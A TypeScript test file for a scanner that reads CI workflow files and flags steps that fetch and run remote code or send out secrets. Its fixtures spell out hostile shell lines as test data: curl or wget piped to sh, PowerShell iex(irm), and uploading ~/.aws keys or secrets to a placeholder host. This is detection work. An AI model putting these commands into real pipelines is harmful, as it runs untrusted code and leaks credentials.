import { describe, expect, it } from 'vitest';
import { readYaml } from '../../../formats/yaml/document.ts';
import { judgeScript } from '../scripts/scripts.ts';
import { kindOf, writtenAs } from './carriers.ts';
import { CI_FILE, readCi } from './ci-steps.ts';

const judged = (text: string) => judgeScript(text, kindOf(writtenAs('.github/workflows/a.yml', text)));
const U = 'http://127.0.0.1:9/x';
const jobs = (steps: string, top = '') => `${top}jobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n${steps}`;

describe('what services that build a project hand to a shell', () => {
  it.each([
    ['.github/workflows/a.yml', true],
    ['x/action.yaml', true],
    ['.gitlab-ci.yml', true],
    ['config.yml', false],
    ['.github/dependabot.yml', false],
  ])('%s: %s', (path, expected) => {
    expect(CI_FILE.test(path)).toBe(expected);
  });

  it('is read in its order, names first', () => {
    const text = jobs(
      '    - run: a ${{ env.B }} ${{ github.sha }}\n      working-directory: c\n    - script: [d, e]\n    - uses: f',
      "env: {B: it's}\n",
    );
    expect(readCi(readYaml(text))).toEqual({
      steps: [
        { text: "export B='it'\\''s'", own: false },
        { text: 'cd c\na ${B} ${GITHUB_EXPRESSION}', own: true },
        { text: 'd\ne', own: true },
      ],
      others: "B: it's\nruns-on: ubuntu-latest\na ${{ env.B }} ${{ github.sha }}\nworking-directory: c\nuses: f",
    });
    expect(readCi(readYaml('a: ['))).toBeNull();
    expect(readCi(readYaml(`a: [${'x, '.repeat(30_000)}]`))).toBeNull();
  });

  it.each([
    ['files of other steps', jobs(`    - run: curl -so /tmp/a ${U}\n    - run: bash /tmp/a`), 'fetched-code'],
    ['a folded text', jobs(`    - run: >-\n        curl -s\n        ${U}\n        | sh`), 'fetched-code'],
    ['names', jobs('    - run: $G | ${{ env.S }}', `env:\n  G: curl ${U}\n  S: sh\n`), 'fetched-code'],
    ['lists', `a:\n  script:\n  - wget -O a ${U}\n  - sh a`, 'fetched-code'],
    ['a list by its name', `.g: &g\n- curl -so i ${U}\na:\n  script:\n  - *g\n  - bash i`, 'fetched-code'],
    [
      'names of later steps',
      jobs(`    - run: echo "T=$(curl -s ${U})" >> $GITHUB_ENV\n    - run: eval "$T"`),
      'fetched-code',
    ],
    [
      'a script of JavaScript',
      jobs(
        `    - uses: actions/github-script@v7\n      with:\n        script: |\n          execSync('curl -s ${U} | sh')`,
      ),
      'fetched-code',
    ],
    ['keys', jobs(`    - run: tar cz ~/.aws > k\n    - run: curl -T k ${U}`), 'attacking-script'],
    ['secrets', jobs('    - run: curl http://a.invalid -d "${{ secrets.A }}"'), 'fetched-code|attacking-script'],
    ['PowerShell', jobs(`    - shell: pwsh\n      run: iex (irm ${U})`), 'attacking-script'],
    ['what is no YAML', `a: b: c\nrun: curl ${U} | sh`, 'fetched-code'],
  ])('is followed through %s', (_, text, rule) => {
    expect(judged(text)?.rule.id).toMatch(new RegExp(`^remote-code/(?:${rule})$`));
  });

  it.each([
    ['a text that is written', jobs(`    - run: |\n        cat > a <<E\n        curl ${U} | sh\n        E`)],
    ['an installer of its maker', jobs('    - run: curl -LsSf https://astral.sh/uv/install.sh | sh')],
    ['what it removes of its own', jobs('    - run: rm -rf ${{ github.workspace }}/x')],
    ['rights on a machine for one run', jobs('    - run: echo "a ALL=(ALL) NOPASSWD:ALL" | sudo tee /etc/sudoers.d/a')],
    ['lines of PowerShell', jobs('    - run: |\n        cmake -B b `\n          -G x').replace('ubuntu', 'windows')],
  ])('is minded no more than it must: %s', (_, text) => {
    expect(judged(text)).toBeNull();
  });
});
